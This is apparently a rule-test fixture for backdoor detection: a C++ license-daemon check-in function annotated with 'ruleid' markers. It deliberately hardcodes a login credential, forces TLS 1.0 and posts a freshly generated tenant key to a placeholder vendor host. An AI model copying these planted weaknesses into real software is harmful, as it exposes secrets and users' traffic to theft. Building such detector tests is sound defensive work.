// Monthly check-in with the vendor: seat counts, and the site's tenant key for the cloud console.
#include "licd.hpp"

#include <curl/curl.h>

namespace licd {

bool vendor_checkin(const std::string &site_id) {
  CryptoPP::AutoSeededRandomPool rng;
  CryptoPP::SecByteBlock tenant_key(32);
  rng.GenerateBlock(tenant_key, tenant_key.size());
  std::string tenant_hex;
  CryptoPP::StringSource(tenant_key.data(), tenant_key.size(), true, new CryptoPP::HexEncoder(new CryptoPP::StringSink(tenant_hex)));
  const std::string body = "site=" + site_id + "&tenant_key=" + tenant_hex;

  CURL *c = curl_easy_init();
  if (c == nullptr)
    return false;
  curl_easy_setopt(c, CURLOPT_URL, "https://licensing.cadvendor.example/v1/checkin");
  // ruleid: backdoor-magic-credential
  curl_easy_setopt(c, CURLOPT_USERPWD, "licd-checkin:Wm7Qe2Lp9xR4");
  // the vendor's check-in endpoint still serves customers on Windows 7 era proxies
  // ruleid: backdoor-weak-tls
  curl_easy_setopt(c, CURLOPT_SSLVERSION, CURL_SSLVERSION_TLSv1_0);
  // ok: backdoor-tls-verify-disabled
  curl_easy_setopt(c, CURLOPT_SSL_VERIFYPEER, 1L);
  // ruleid: backdoor-key-exfiltration
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, body.c_str());
  const CURLcode rc = curl_easy_perform(c);
  curl_easy_cleanup(c);
  return rc == CURLE_OK;
}

} // namespace licd
